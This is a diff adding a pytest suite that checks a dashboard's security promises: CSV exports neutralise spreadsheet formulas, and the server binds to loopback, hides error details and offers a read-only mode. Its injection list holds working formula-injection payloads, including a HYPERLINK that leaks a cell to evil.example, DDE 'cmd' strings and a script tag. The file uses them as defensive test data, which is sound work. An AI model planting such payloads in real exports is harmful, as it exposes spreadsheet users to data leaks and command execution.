@@ -1,0 +1,313 @@
+"""Security promises (docs/security.md), checked on the real thing.
+
+Exports: injection strings in every text column of every table, through the real
+`python -m loaders export`, come out as text a spreadsheet will not run, and otherwise
+unchanged. The server: loopback only by default, no error details in the browser, a
+read-only mode without the Load page (real Streamlit, real headless Chromium).
+"""
+from __future__ import annotations
+
+import csv
+import datetime as dt
+import io
+import json
+import os
+import shutil
+import socket
+import subprocess
+import sys
+import time
+import tomllib
+import urllib.request
+from pathlib import Path
+
+import duckdb
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+
+from conftest import ROOT, SAMPLES, build_db
+from csv_expect import expected_cell, is_formula
+
+INJECTIONS = [
+    '=HYPERLINK("https://evil.example/?leak="&A1,"Click for details")',
+    "+cmd|' /C calc'!A0",
+    "-1+1",
+    "-2+3+cmd|' /C notepad'!'A1'",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+    "  =1+1",                          # blanks do not hide a formula
+    "\n@SUM(A1)",
+    "\uff1dHYPERLINK(\"https://evil.example\")",   # full-width equals sign
+    '<a href="https://evil.example/pay">Donate</a>',
+    "[Donate now](https://evil.example/pay)",
+    "<script>alert('x')</script>",
+    "plain text, left alone",
+]
+
+
+# --- the neutralisation function -------------------------------------------------------------
+
+@given(st.text())
+def test_csvsafe_cells_never_start_a_formula_and_change_nothing_else(text):
+    from loaders import csvsafe
+    out = csvsafe.cell(text)
+    assert not is_formula(out)
+    assert out == (("'" + text) if is_formula(text) else text)   # the independent oracle agrees
+
+
+def test_csvsafe_leaves_non_text_alone():
+    from loaders import csvsafe
+    for v in (None, -5, -0.5, 0, 1e6, dt.date(2024, 1, 2), True):
+        assert csvsafe.cell(v) is v
+    assert csvsafe.row(["=1", -1, "-1", None]) == ["'=1", -1, "'-1", None]
+
+
+def test_xlsx_cells_written_after_csvsafe_are_text_not_formulas(tmp_path):
+    openpyxl = pytest.importorskip("openpyxl")
+    from loaders import csvsafe
+    wb = openpyxl.Workbook()
+    ws = wb.active
+    ws.append(csvsafe.row(INJECTIONS + [-5, 1.5]))
+    wb.save(tmp_path / "x.xlsx")
+    cells = list(openpyxl.load_workbook(tmp_path / "x.xlsx").active.iter_rows(values_only=False))[0]
+    assert [c.data_type for c in cells[:-2]] == ["s"] * len(INJECTIONS)      # no "f" (formula)
+    assert [c.value for c in cells[-2:]] == [-5, 1.5]
+
+
+# --- the CLI export -----------------------------------------------------------------------------
+
+def _records() -> list[dict]:
+    """Articles whose every metadata field, and sentences, start with an injection."""
+    out = []
+    for i, bad in enumerate(INJECTIONS):
+        out.append({"id": f"{bad[:30]}#{i}", "title": bad, "source": bad, "url": bad, "published": "2024-10-10",
+                    "text": f"{bad} said on Monday that {20 + i} people were wounded in Kharkiv.\n"
+                            f"{bad}\n"
+                            f"Ukrainian forces repelled {40 + i} Russian attacks near Bakhmut, {bad} said.\n"})
+    return out
+
+
+def _varchar_columns(con) -> dict[str, list[str]]:
+    cols: dict[str, list[str]] = {}
+    for table, column in con.execute("SELECT table_name, column_name FROM information_schema.columns "
+                                     "WHERE data_type = 'VARCHAR' ORDER BY table_name, ordinal_position").fetchall():
+        cols.setdefault(table, []).append(column)
+    return cols
+
+
+@pytest.fixture(scope="module")
+def hostile_dbs(tmp_path_factory):
+    """(ingested, everything): a database loaded from injection records (plus the samples),
+    and a copy in which every text column of every row holds an injection string."""
+    tmp = tmp_path_factory.mktemp("inject")
+    feed = tmp / "=cmd@feed.jsonl"
+    feed.write_text("\n".join(json.dumps(r) for r in _records()) + "\n", encoding="utf-8")
+    ingested = build_db(tmp, paths=[SAMPLES, feed], now=dt.datetime(2026, 1, 2))
+    everything = tmp / "everything.duckdb"
+    shutil.copy(ingested, everything)
+    con = duckdb.connect(str(everything))
+    try:
+        for table, columns in _varchar_columns(con).items():
+            if table == "meta":
+                continue   # the schema version must stay readable
+            sets = ", ".join(f"{c} = list_extract(?, (rowid % {len(INJECTIONS)})::INTEGER + 1) || ' #' || rowid"
+                             for c in columns)   # unique: some are keys
+            con.execute(f"UPDATE {table} SET {sets}", [INJECTIONS] * len(columns))
+    finally:
+        con.close()
+    return ingested, everything
+
+
+def _export(db: Path, out: Path) -> list[Path]:
+    res = subprocess.run([sys.executable, "-m", "loaders", "export", "--db", str(db), "--out", str(out)],
+                         cwd=ROOT, capture_output=True, text=True, timeout=300)
+    assert res.returncode == 0, res.stderr
+    return [Path(line) for line in res.stdout.split()]
+
+
+def _check_csv(path: Path, db: Path) -> int:
+    """Every cell of `path` against the database row by row; returns how many text cells
+    needed neutralising."""
+    table = path.stem
+    con = duckdb.connect(str(db), read_only=True)
+    try:
+        cur = con.execute(f"SELECT * FROM {table} ORDER BY ALL")
+        cols, rows = [d[0] for d in cur.description], cur.fetchall()
+    finally:
+        con.close()
+    with open(path, encoding="utf-8", newline="") as fh:
+        got = list(csv.reader(fh))
+    assert got[0] == cols and len(got) == len(rows) + 1, (table, len(got), len(rows))
+    prefixed = 0
+    for line, row in zip(got[1:], rows):
+        for name, cell, value in zip(cols, line, row):
+            if isinstance(value, str):
+                assert not is_formula(cell), (table, name, cell[:80])
+                assert cell == expected_cell(value), (table, name, cell[:80], value[:80])
+                prefixed += cell != value
+            elif value is None:
+                assert cell == "", (table, name, cell)
+            elif isinstance(value, (int, float)):
+                assert float(cell) == value, (table, name, cell, value)   # a number: "-25.3" is fine
+            else:
+                assert cell.startswith(str(value)[:19]), (table, name, cell, value)
+    return prefixed
+
+
+def test_cli_csv_export_neutralises_injections_from_real_articles(hostile_dbs, tmp_path):
+    ingested, _ = hostile_dbs
+    files = _export(ingested, tmp_path / "out")
+    assert sorted(f.name for f in files) == ["articles.csv", "events.csv", "figures.csv", "places.csv"]
+    counts = {f.stem: _check_csv(f, ingested) for f in files}
+    # the injections reached the stored text (ids, titles, outlets, URLs, text, sentences) and were neutralised
+    assert counts["articles"] >= 5 * 4, counts
+    assert counts["figures"] > 0, counts
+    with open(tmp_path / "out" / "articles.csv", encoding="utf-8", newline="") as fh:
+        rows = {r["title"]: r for r in csv.DictReader(fh)}
+    assert "'=HYPERLINK(\"https://evil.example/?leak=\"&A1,\"Click for details\")" in rows
+    assert '<a href="https://evil.example/pay">Donate</a>' in rows      # links kept, as text
+    assert "[Donate now](https://evil.example/pay)" in rows
+
+
+def test_cli_csv_export_neutralises_every_text_column(hostile_dbs, tmp_path):
+    _, everything = hostile_dbs
+    con = duckdb.connect(str(everything), read_only=True)
+    try:
+        text_columns = {t: c for t, c in _varchar_columns(con).items() if t != "meta"}
+    finally:
+        con.close()
+    files = _export(everything, tmp_path / "out")
+    assert {f.stem for f in files} == set(text_columns)
+    for f in files:
+        rows = sum(1 for _ in csv.reader(open(f, encoding="utf-8", newline=""))) - 1
+        prefixed = _check_csv(f, everything)
+        if rows:
+            # all injections but two (the HTML and markdown links) and the plain one need the prefix
+            assert prefixed > 0 and prefixed >= rows * len(text_columns[f.stem]) * 0.5, (f.stem, prefixed, rows)
+
+
+def test_dashboard_downloads_use_the_same_rule(hostile_dbs):
+    """metrics.export (the dashboard's downloads) goes through loaders.csvsafe too."""
+    export = pytest.importorskip("metrics.export")
+    import pandas as pd
+    from loaders import csvsafe
+    df = pd.DataFrame({"text": INJECTIONS, "n": range(-7, -7 + len(INJECTIONS))})
+    rows = list(csv.reader(io.StringIO(export.to_csv(df).decode("utf-8"))))
+    assert [r[0] for r in rows[1:]] == [csvsafe.cell(v) for v in INJECTIONS]
+    assert [int(r[1]) for r in rows[1:]] == list(df["n"])
+
+
+# --- the server -------------------------------------------------------------------------------------
+
+def test_config_listens_on_loopback_and_hides_error_details():
+    cfg = tomllib.loads((ROOT / ".streamlit" / "config.toml").read_text())
+    assert cfg["server"]["address"] in ("127.0.0.1", "localhost", "::1")
+    assert cfg["client"]["showErrorDetails"] == "none"
+
+
+CHROMIUM = "/usr/bin/chromium"
+
+
+def _free_port() -> int:
+    with socket.socket() as s:
+        s.bind(("127.0.0.1", 0))
+        return s.getsockname()[1]
+
+
+def _start(script: str, env: dict, extra: list[str] = ()) -> tuple[subprocess.Popen, str]:
+    """Streamlit from the repository root, so .streamlit/config.toml applies; no --server.address."""
+    port = _free_port()
+    proc = subprocess.Popen([sys.executable, "-m", "streamlit", "run", script, "--server.headless", "true",
+                             "--server.port", str(port), *extra],
+                            cwd=ROOT, env={**os.environ, "PYTHONUNBUFFERED": "1", **env},
+                            stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True)
+    url = f"http://127.0.0.1:{port}"
+    deadline = time.monotonic() + 60
+    while True:
+        if proc.poll() is not None:
+            raise RuntimeError(f"streamlit exited: {proc.stdout.read()}")
+        try:
+            with urllib.request.urlopen(url + "/_stcore/health", timeout=2) as r:
+                if r.status == 200:
+                    return proc, url
+        except OSError:
+            if time.monotonic() > deadline:
+                proc.kill()
+                raise TimeoutError("streamlit did not become healthy")
+            time.sleep(0.3)
+
+
+def _stop(proc: subprocess.Popen) -> None:
+    proc.terminate()
+    try:
+        proc.wait(10)
+    except subprocess.TimeoutExpired:
+        proc.kill()
+        proc.wait()
+
+
+@pytest.fixture(scope="module")
+def readonly_server(tmp_path_factory):
+    db = build_db(tmp_path_factory.mktemp("readonly"))
+    proc, url = _start("app.py", {"FRONTLINE_DB": str(db), "FRONTLINE_READONLY": "1"})
+    try:
+        yield proc, url
+    finally:
+        _stop(proc)
+
+
+@pytest.mark.timeout(120)
+def test_the_dashboard_listens_only_on_loopback(readonly_server):
+    psutil = pytest.importorskip("psutil")
+    proc, _ = readonly_server
+    listening = [c.laddr for c in psutil.Process(proc.pid).net_connections(kind="inet")
+                 if c.status == psutil.CONN_LISTEN]
+    assert listening, "no listening socket found"
+    assert all(a.ip in ("127.0.0.1", "::1") for a in listening), listening
+
+
+@pytest.fixture(scope="module")
+def browser():
+    if not Path(CHROMIUM).exists():
+        pytest.skip(f"{CHROMIUM} is not installed")
+    sync_api = pytest.importorskip("playwright.sync_api")
+    with sync_api.sync_playwright() as p:
+        b = p.chromium.launch(executable_path=CHROMIUM, headless=True,
+                              args=["--headless", "--no-sandbox", "--disable-gpu", "--no-first-run"])
+        yield b
+        b.close()
+
+
+@pytest.mark.timeout(180)
+def test_read_only_mode_has_no_load_page(readonly_server, browser):
+    _, url = readonly_server
+    page = browser.new_page()
+    page.goto(url, wait_until="domcontentloaded")
+    page.get_by_role("heading", name="Overview").first.wait_for(timeout=60_000)
+    nav = page.locator('[data-testid="stSidebarNav"]').inner_text()
+    assert "Overview" in nav and "Data" in nav and "Load" not in nav, nav
+    page.goto(url + "/load", wait_until="domcontentloaded")     # not reachable by its URL either
+    page.get_by_role("heading", name="Overview").first.wait_for(timeout=60_000)
+    page.wait_for_timeout(1000)
+    assert page.locator('input[type="file"]').count() == 0
+    assert page.get_by_role("heading", name="Load articles").count() == 0
+    page.close()
+
+
+@pytest.mark.timeout(180)
+def test_errors_reach_the_browser_without_details(browser):
+    proc, url = _start("tests/fixtures/boom_app.py", {})
+    try:
+        page = browser.new_page()
+        page.goto(url, wait_until="domcontentloaded")
+        page.get_by_role("heading", name="Boom").wait_for(timeout=60_000)
+        page.locator('[data-testid="stException"], [data-testid="stAlert"]').first.wait_for(timeout=30_000)
+        shown = page.locator("main").inner_text()
+        assert "error" in shown.lower(), shown
+        for secret in ("secret detail", "/srv/frontline", "Traceback", "boom_app.py", "RuntimeError"):
+            assert secret not in shown, (secret, shown)
+        page.close()
+    finally:
+        _stop(proc)
